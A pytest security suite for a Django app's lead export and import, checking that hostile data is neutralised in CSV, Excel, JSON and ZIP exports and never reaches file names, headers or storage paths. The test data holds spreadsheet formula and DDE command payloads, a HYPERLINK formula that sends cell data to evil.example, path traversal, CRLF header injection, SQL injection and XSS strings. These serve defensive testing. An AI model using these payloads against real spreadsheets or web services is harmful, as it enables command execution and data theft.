"""Hostile data, end to end: leads full of formula payloads, control characters, huge and world text, exported
through the real export service in every format, downloaded through the download view and read back
with the real readers; hostile filter values and file names never reach a header or a storage path.

tests/exports/formats/ proves each writer on its own; this is the whole path (services, storage,
download view, on PostgreSQL the COPY-based CSV) with every payload in every text column at once,
the location and category names and the exporting user's name included.
"""

import csv
import io
import json
import re
import zipfile
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.urls import reverse

from exports import conf
from exports.content.columns import LEAD_COLUMNS
from exports.formats.sheetml import fit_text
from exports.models import Export, ExportStatus
from exports.services import ExportRequest, export_start
from exports.storage import export_storage
from leads.cell_safety import neutralise
from leads.filters import spec_to_query_string
from leads.imports import LeadImportFileError, lead_import
from leads.models import Lead
from tests.exports.factories import UserFactory
from tests.factories import CategoryFactory, LeadFactory, LocationFactory
from tests.security.figures import figure_add
from tests.security.matrix import body

pytestmark = pytest.mark.django_db

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
EXCEL_CELL_MAX = 32_767
LONG = ("=" + "A long description, " * 2_000)[:40_000]  # starts with a trigger
assert len(LONG) == 40_000

PAYLOADS = {
    "dde command": "=cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-2",
    "at": "@SUM(1)",
    "leading tab": "\t=1+1",
    "leading CR": "\r=1+1",
    "leading LF": "\n=1+1",
    "array formula": "{=1+1}",
    "hyperlink": '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
    "semicolon DDE": '=DDE("cmd";"/C calc";"!A0")',
    "control characters": "bell\x07 esc\x1b[31m vt\x0b ff\x0c us\x1f del\x7f",
    "control then formula": "\x01=1+1",
    "emoji": "🚀 Great deal 👍🏽 👨\u200d👩\u200d👧",
    "right-to-left": "\u202eexe.gnp عرض خاص שלום",
    "CJK": "二手自行车 出售 中古 자전거",
    "quotes": "He said \"hi\" and 'bye'",
    "commas": "a,b,,c,",
    "newlines": "line 1\nline 2\r\nline 3\rline 4",
    "separators": "\ufeffBOM \u2028 LS \u2029 PS \u00a0 NBSP",
    "backslash dot": "\\.",
    "spaces": "   ",
    "SQL": "'; DROP TABLE leads_lead; --",
    "HTML": "<script>alert(1)</script>",
    "long": LONG,
}
# PostgreSQL text cannot hold NUL (tested separately below); SQLite can, so its exports must cope.
NUL_PAYLOAD = "before\x00after"
TEXT_FIELDS = {"title": 300, "description": None, "contact_name": 200, "phone": 40, "email": 254, "url": 500}
ALL_COLUMNS = [column.key for column in LEAD_COLUMNS]
TEXT_COLUMNS = ["source_post_id", *TEXT_FIELDS]
NUMBER = re.compile(r"-?\d+(\.\d+)?")
SAFE_NAME = re.compile(r"^[A-Za-z0-9][A-Za-z0-9._-]*$")


def payloads() -> dict[str, str]:
    found = dict(PAYLOADS)
    if connection.vendor != "postgresql":
        found["NUL"] = NUL_PAYLOAD
    return found


def cut(text: str, limit: int | None) -> str:
    return text if limit is None else text[:limit]


@pytest.fixture
def exporter(db):
    # A valid username that starts with a formula trigger: it is written into the Excel Filters sheet.
    return UserFactory(
        username="-sales+1",
        permissions=["leads.view_lead", "exports.export_leads", "exports.view_contact_info"],
    )


@pytest.fixture
def hostile_leads(db) -> dict[str, Lead]:
    location = LocationFactory(name="=SUM(A1:A9)", site_code="evil-site", region="@CA")
    category = CategoryFactory(name="+cat", code="evil")
    leads = {}
    for number, (name, payload) in enumerate(payloads().items()):
        values = {field: cut(payload, limit) for field, limit in TEXT_FIELDS.items()}
        leads[name] = LeadFactory(
            location=location,
            category=category,
            source_post_id=payload[:20] if name in ("minus", "plus", "at") else f"hostile-{number}",
            price=Decimal("-2") if name == "minus" else Decimal("1234.50"),
            **values,
        )
    for lead in leads.values():
        lead.refresh_from_db()  # the values as stored (prices with their two decimals)
    figure_add("hostile payloads x formats exported and read back (payloads in every text column)", len(leads))
    return leads


def export_and_download(client, user, *, format: str, filters=None, columns=ALL_COLUMNS) -> tuple[Export, bytes]:
    """The real path: export_start (runs at once), then the download view."""
    export = export_start(
        request=ExportRequest(
            user=user, filters=filters or {}, format=format, columns=columns, include_contact_info=True, source="admin"
        )
    )
    assert export.status == ExportStatus.COMPLETED, export.error_message
    client.force_login(user)
    response = client.get(reverse("exports:download", args=[export.pk]))
    assert response.status_code == 200
    check_served_name(response, export)
    return export, body(response)


def check_served_name(response, export: Export) -> None:
    """The download's name is the server's, safe characters only; the stored path is the record's own folder."""
    disposition = response["Content-Disposition"]
    match = re.fullmatch(r'attachment; filename="([^"\\\r\n]+)"', disposition)
    assert match, disposition
    assert SAFE_NAME.match(match.group(1)) and match.group(1) == export.file_name
    parts = export.file.name.split("/")
    assert re.fullmatch(r"\d{4}", parts[0]) and re.fullmatch(r"\d{2}", parts[1]), export.file.name
    assert parts[2] == str(export.pk) and parts[3] == export.file_name and len(parts) == 4
    stored = Path(export_storage().path(export.file.name)).resolve()
    assert stored.is_relative_to(conf.export_directory().resolve())


# What each reader must find ---------------------------------------------------------------------------


def neutralised(text: str) -> str:
    return neutralise(text)  # the one rule (tests/exports/formats/test_safety.py proves it)


def excel_expected(text: str) -> str | None:
    # Quoted; characters XML cannot carry replaced and long text cut, both marked (tests/exports/formats/).
    return fit_text(text)[0] or None


def check_csv(content: bytes, leads: dict[str, Lead]) -> None:
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    header, body = rows[0], rows[1:]
    assert len(body) == len(leads)
    assert all(len(row) == len(header) for row in body), "a row has the wrong number of columns"
    by_id = {int(row[header.index("ID")]): dict(zip(header, row, strict=True)) for row in body}
    headers = dict(zip(ALL_COLUMNS, header, strict=True))
    for lead in leads.values():
        row = by_id[lead.pk]
        for key in TEXT_COLUMNS:
            assert row[headers[key]] == neutralised(getattr(lead, key)), (lead.title[:30], key)
        assert row[headers["location"]] == "'=SUM(A1:A9)"
        assert row[headers["category"]] == "'+cat"
        assert row[headers["price"]] == str(lead.price)  # numbers are never prefixed: -2.00 stays a number
    for row in body:
        for cell in row:
            # Only numbers (a negative price) may start with "-": a spreadsheet reads them as numbers.
            text_cell = not NUMBER.fullmatch(cell)
            assert not (text_cell and cell and cell[0] in TRIGGERS), f"un-neutralised CSV cell {cell[:40]!r}"


def check_workbook(content: bytes, leads: dict[str, Lead]) -> None:
    book = openpyxl.load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"formula in {sheet.title}!{cell.coordinate}: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert cell.value[:1] not in TRIGGERS, f"{sheet.title}!{cell.coordinate} starts with a trigger"
                    assert len(cell.value) <= EXCEL_CELL_MAX
    sheet = book["Leads"]
    header = [cell.value for cell in sheet[1]]
    headers = dict(zip(ALL_COLUMNS, header, strict=True))
    by_id = {row[0]: dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert len(by_id) == len(leads)
    for lead in leads.values():
        row = by_id[lead.pk]
        for key in TEXT_COLUMNS:
            assert row[headers[key]] == excel_expected(getattr(lead, key)), (lead.title[:30], key)
        assert row[headers["price"]] == float(lead.price)  # a number cell, never text
    filters_sheet = "\n".join(
        str(value) for row in book["Filters"].iter_rows(values_only=True) for value in row if value is not None
    )
    assert "'-sales+1" in filters_sheet  # the user's name, neutralised


def check_json(content: bytes, leads: dict[str, Lead]) -> None:
    document = json.loads(content)
    by_id = {item["id"]: item for item in document["leads"]}
    assert len(by_id) == len(leads)
    for lead in leads.values():
        item = by_id[lead.pk]
        for key in TEXT_COLUMNS:
            assert item[key] == getattr(lead, key), (lead.title[:30], key)  # raw values, not neutralised
        assert item["location"]["name"] == "=SUM(A1:A9)"
    assert document["metadata"]["generated_by"] == "-sales+1"


def check_archive(content: bytes, leads: dict[str, Lead]) -> None:
    archive = zipfile.ZipFile(io.BytesIO(content))
    assert archive.testzip() is None
    for name in archive.namelist():
        assert SAFE_NAME.match(name) and "/" not in name and ".." not in name, name
    check_csv(archive.read("leads.csv"), leads)
    check_workbook(archive.read("leads.xlsx"), leads)
    json.loads(archive.read("analytics.json"))
    json.loads(archive.read("manifest.json"))


CHECKS = {"csv": check_csv, "excel": check_workbook, "json": check_json, "zip": check_archive}


@pytest.mark.parametrize("format", list(CHECKS))
def test_every_format_exports_hostile_leads_safely(client, exporter, hostile_leads, format):
    export, content = export_and_download(client, exporter, format=format)

    assert export.rows_written == len(hostile_leads)
    CHECKS[format](content, hostile_leads)


# Hostile filter values: into the spec, never into the file name, the header or the storage path ----

HOSTILE_FILTERS = [
    {"keywords": ["../../etc/passwd"]},
    {"keywords": ["a\r\nSet-Cookie: evil=1"]},
    {"q": '"; filename="evil.exe'},
    {"q": "..\\..\\windows\\system32"},
    {"keywords": ["ünïcødé 二手 🚀", "/absolute/path"]},
    {"exclude_keywords": ["<script>", "%00", "%2e%2e%2f"]},
    {"q": "x" * 200},
    {"keywords": ["=cmd|' /C calc'!A0"], "q": "+1+1"},
]


@pytest.mark.parametrize("filters", HOSTILE_FILTERS, ids=[str(index) for index in range(len(HOSTILE_FILTERS))])
def test_hostile_filter_values_never_reach_the_file_name_header_or_path(client, exporter, filters):
    LeadFactory(title="../../etc/passwd ünïcødé 二手 🚀 =cmd|' /C calc'!A0 +1+1")
    client.force_login(exporter)
    query = spec_to_query_string(filters)

    # The admin's export page and its export button (a quick export: the file comes back at once).
    page = client.get(f"{reverse('admin:leads_lead_export')}?{query}")
    assert page.status_code == 200, page.content[:500]
    response = client.post(f"{reverse('admin:leads_lead_export')}?{query}", {"format": "excel", "columns": ["title"]})
    assert response.status_code == 200, response.content[:500]
    export = Export.objects.get()
    check_served_name(response, export)
    body(response)
    for key, value in filters.items():
        assert export.filters[key] == value  # the spec keeps the values as given

    # The Excel file's Filters sheet holds the hostile values, as text.
    with export_storage().open(export.file.name, "rb") as handle:
        book = openpyxl.load_workbook(io.BytesIO(handle.read()))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f"
                assert not (isinstance(cell.value, str) and cell.value[:1] in TRIGGERS)

    # The download view and the API serve it under the same safe name.
    download = client.get(reverse("exports:download", args=[export.pk]))
    check_served_name(download, export)
    body(download)
    api = client.get(f"/api/v1/export/leads/csv?{query}")
    assert api.status_code == 200
    api_export = Export.objects.exclude(pk=export.pk).get()
    check_served_name(api, api_export)
    body(api)
    figure_add("hostile filter specs tried (admin export page, download, API)")


@pytest.mark.parametrize(
    ("url", "status"),
    [
        ("/admin/leads/lead/export/?q=%00", 400),
        ("/admin/leads/lead/export/?keywords=%00evil", 400),
        ("/admin/leads/lead/?q=%00", 200),  # the list shows the filter's error, and no leads
        ("/admin/dashboard/?q=%00", 200),  # the dashboard shows the filter's error
        ("/api/v1/export/leads/csv?q=%00", 400),
        ("/api/v1/export/analytics/leads?keywords=%00", 400),
        ("/admin/leads/lead/export/?min_price=1e999", 400),
        ("/admin/leads/lead/export/?date_from=2026-02-30", 400),
        ("/admin/leads/lead/export/?location_ids=1;DROP", 400),
        ("/admin/leads/lead/export/?status=%F0%9F%9A%80", 400),
    ],
)
def test_filter_values_that_cannot_be_applied_are_a_clear_error_never_a_500(client, exporter, url, status):
    LeadFactory(title="Visible only without a filter")
    client.force_login(exporter)

    response = client.get(url)

    assert response.status_code == status
    content = response.content.decode()
    assert "Visible only without a filter" not in content  # never an unfiltered list for a broken filter
    if url.startswith("/api/"):
        assert response.json(), "a 400 names the bad field"
    else:
        assert "errorlist" in content or "errornote" in content or "error" in content
    assert not Export.objects.exists()
    figure_add("hostile filter values refused cleanly")


# NUL: PostgreSQL text cannot store it; the admin and the import refuse it with a sentence ---------------


def test_the_lead_form_refuses_a_nul_character(admin_client):
    lead = LeadFactory(title="Clean title")
    url = reverse("admin:leads_lead_change", args=[lead.pk])
    data = {
        "title": "bad\x00title",
        "status": "new",
        "price": "",
        "description": "",
        "url": "",
        "location": lead.location_id,
        "category": lead.category_id,
        "source_post_id": lead.source_post_id,
        "posted_at_0": "",
        "posted_at_1": "",
        "contact_name": "",
        "email": "",
        "phone": "",
    }

    response = admin_client.post(url, data)

    assert response.status_code == 200
    assert "Null characters are not allowed." in response.content.decode()
    lead.refresh_from_db()
    assert lead.title == "Clean title"
    figure_add("NUL inputs refused with a message")


NUL_FILES = {
    "csv with a raw NUL": ("csv", b"source_post_id,location,category,title\nn1,sfbay,sss,bad\x00title\n"),
    "json with an escaped NUL": (
        "json",
        json.dumps(
            [{"source_post_id": "n1", "location": "sfbay", "category": "sss", "title": "bad\u0000title"}]
        ).encode(),
    ),
    "json with a NUL in the description": (
        "json",
        json.dumps(
            [{"source_post_id": "n1", "location": "sfbay", "category": "sss", "title": "ok", "description": "x\x00"}]
        ).encode(),
    ),
}


@pytest.mark.parametrize("name", list(NUL_FILES))
def test_an_import_holding_nul_is_refused_with_a_sentence_on_every_database(db, name):
    LocationFactory(site_code="sfbay")
    CategoryFactory(code="sss")
    format, data = NUL_FILES[name]

    try:
        result = lead_import(file_path_or_bytes=data, format=format)
    except LeadImportFileError as error:
        message = error.message
    else:
        assert not result.saved
        message = " ".join(text for error in result.errors for text in error.messages)

    assert "NUL" in message or "binary data" in message, message
    assert not Lead.objects.exists()
    figure_add("NUL inputs refused with a message")


@pytest.mark.parametrize("name", list(NUL_FILES))
def test_the_admin_import_page_shows_the_nul_refusal_never_a_500(admin_client, name):
    LocationFactory(site_code="sfbay")
    CategoryFactory(code="sss")
    format, data = NUL_FILES[name]
    upload = SimpleUploadedFile(f"leads.{format}", data)

    response = admin_client.post(
        reverse("admin:leads_lead_import"),
        {"format": format, "import_file": upload},
    )

    assert response.status_code == 200
    content = response.content.decode()
    assert "NUL" in content or "binary data" in content
    assert "Confirm import" not in content
    assert not Lead.objects.exists()


def test_a_hostile_upload_file_name_is_escaped_and_never_used_as_a_path(admin_client, settings, tmp_path):
    LocationFactory(site_code="sfbay")
    CategoryFactory(code="sss")
    settings.FILE_UPLOAD_TEMP_DIR = str(tmp_path)
    name = '../../<script>alert(1)</script>"\r\n.csv'
    data = b"source_post_id,location,category,title\nn1,sfbay,sss,Fine title\n"

    response = admin_client.post(
        reverse("admin:leads_lead_import"),
        {"format": "csv", "import_file": SimpleUploadedFile(name, data)},
    )

    assert response.status_code == 200
    content = response.content.decode()
    assert "<script>alert(1)</script>" not in content
    assert "Fine title" in content  # the preview
    assert not any("script" in path.name for path in Path("/").glob("*.csv"))
    assert not any("script" in str(path) for path in tmp_path.rglob("*"))
    figure_add("hostile upload names tried")
